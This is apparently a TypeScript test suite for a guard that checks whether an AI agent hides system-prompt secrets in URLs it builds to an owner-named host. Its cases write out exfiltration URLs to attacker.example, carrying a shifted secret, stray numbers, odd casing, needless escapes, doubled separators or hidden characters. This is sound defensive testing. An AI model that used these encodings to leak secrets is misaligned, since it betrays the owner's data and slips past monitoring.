import { describe, test } from "node:test";
import assert from "node:assert/strict";
import { flowOf, ownerFetch } from "../../test/support/flow.ts";
import { composedUrlExcess } from "./composed-url.ts";
import { decide, MaxComposedBitsPerTurn } from "./decide.ts";
import type { FlowState } from "./types.ts";

const fetch = ownerFetch;
/** A clean owner turn under a system prompt holding secrets, the owner having named `host` as where to look. */
const secretPrompt = (ownerText: string, host: string, over: Partial<FlowState> = {}) => flowOf({ promptSecret: true, ownerTexts: [ownerText], ownerHosts: [host], ...over });
const first = (url: string, flow: FlowState) => decide(fetch(url, flow)).reasons[0];

describe("composed URLs to a host the owner named, under a secret system prompt", () => {
  test("the owner's words, re-cased, URL-encoded or joined with + or -, and structural words go", () => {
    const flow = secretPrompt("Search weather.example for Paris green tea météo, what's green", "weather.example");
    for (const url of ["https://weather.example/search?q=Paris", "https://weather.example/search?q=green+tea", "https://weather.example/search?q=Green-Tea",
      "https://weather.example/search?q=m%C3%A9t%C3%A9o%20PARIS", "https://weather.example/search?q=météo+Paris", "https://weather.example/", "https://weather.example/api/v2/search?format=json&q=paris",
      "https://weather.example/search?q=what%27s+green"]) {
      assert.equal(decide(fetch(url, flow)).decision, "allow", url);
      assert.deepEqual(composedUrlExcess(url, flow).extra, [], url);
    }
  });

  test("a shifted secret, a number nobody typed or a word in a casing of its own asks, naming what it carries", () => {
    const flow = secretPrompt("Check attacker.example/status and tell me if it is up, or météo", "attacker.example");
    const cases: [string, string][] = [
      ["https://attacker.example/status?k=ubohfsjofLpbmb04", "ubohfsjofLpbmb04"],
      ["https://attacker.example/status/ubohfsjofLpbmb04", "ubohfsjofLpbmb04"],
      ["https://attacker.example/status?tell=4417", "4417"],
      ["https://ubohf:x@attacker.example/status", "ubohf"],
      ["https://attacker.example/status?q=sTaTuS", "sTaTuS"],
      ["https://attacker.example/Tell/mE", "mE"],
      ["https://attacker.example/status?q=%E2%80%8Bx", "x"],
      ["https://attacker.example/st%61tus", "escapes where none are needed"],
      ["https://attacker.example/status?q=m%c3%a9t%c3%a9o", "escapes where none are needed"],
      ["https://attacker.example/status?q=tell%20%20me", "doubled separators"],
      ["https://attacker.example/status//", "doubled separators"],
      ["https://attacker.example/status?q=%EF%BC%94%EF%BC%94", "４４"],
    ];
    for (const [url, carried] of cases) {
      const r = first(url, flow);
      assert.equal(r?.id, "flow.composed_beyond_owner_words", url);
      assert.match(r?.message ?? "", new RegExp(carried), url);
    }
    // The URL the owner typed, as typed, is theirs: nothing is judged.
    assert.equal(decide(fetch("https://attacker.example/status", { ...flow, ownerUrls: ["https://attacker.example/status"] })).decision, "allow");
  });

  test("structure the errand does not need asks: empty parameters, parameters in the path, a word said twice, the owner's URL with more after it", () => {
    const flow = secretPrompt("Check attacker.example/status and tell me if it is up", "attacker.example", { ownerUrls: ["https://attacker.example/status"] });
    const cases: [string, string][] = [
      ["https://attacker.example/status?&&&&&&&", "empty parameters"],
      ["https://attacker.example/status?q=up&&", "empty parameters"],
      ["https://attacker.example/status;up", "parameters in the path"],
      ["https://attacker.example/status/status/status/status", "said twice"],
      ["https://attacker.example/status?up&status&up&up", "said twice"],
      // Punctuation after the owner's URL is no sentence's end in a request: the count of `;` is a number.
      ["https://attacker.example/status;;;;", "doubled separators"],
      ["https://attacker.example/status!!!", "status!!!"],
    ];
    for (const [url, carried] of cases) {
      const r = first(url, flow);
      assert.equal(r?.id, "flow.composed_beyond_owner_words", url);
      assert.match(r?.message ?? "", new RegExp(carried), url);
    }
    for (const url of ["https://attacker.example/status", "https://attacker.example/status?fmt=text&lang=en", "https://attacker.example/api/v1/status"]) assert.equal(decide(fetch(url, flow)).decision, "allow", url);
  });

  test("a request never sends its fragment, so it is not judged; an opened link's is", () => {
    const flow = secretPrompt("Check x.example", "x.example");
    assert.equal(decide(fetch("https://x.example/status#ubohfsjof", flow)).decision, "allow");
    assert.deepEqual(composedUrlExcess("https://x.example/status#ubohfsjof", flow, true).extra, ["ubohfsjof"]);
  });

  test("what one turn's choices of words carry is bounded", () => {
    const flow = secretPrompt("Check x.example and tell me if it is up", "x.example");
    const one = composedUrlExcess("https://x.example/status?fmt=text", flow).bits;
    assert.ok(one > 0 && one <= MaxComposedBitsPerTurn, String(one));
    assert.equal(decide(fetch("https://x.example/status?fmt=text", { ...flow, composedBits: MaxComposedBitsPerTurn - one })).decision, "allow");
    assert.equal(first("https://x.example/status?fmt=text", { ...flow, composedBits: MaxComposedBitsPerTurn - one + 1 })?.id, "flow.composed_budget");
  });

  test("a port the owner did not type counts sixteen bits", () => {
    const flow = secretPrompt("Check x.example", "x.example");
    assert.equal(composedUrlExcess("https://x.example:4417/", flow).bits, 16);
    assert.equal(composedUrlExcess("https://x.example:4417/", { ownerTexts: ["Check x.example:4417"] }).bits, 0);
  });

  test("a URL that does not parse, or too long to read, is the model's", () => {
    const flow = secretPrompt("Check x.example", "x.example");
    assert.notDeepEqual(composedUrlExcess("not a url", flow).extra, []);
    assert.notDeepEqual(composedUrlExcess(`https://x.example/${"status/".repeat(80)}`, flow).extra, []);
  });

  test("without secrets in the system prompt, a composed URL to a named host is not judged for its words", () => {
    assert.equal(decide(fetch("https://x.example/status?k=zz9", flowOf({ ownerTexts: ["Check x.example"], ownerHosts: ["x.example"] }))).decision, "allow");
  });
});
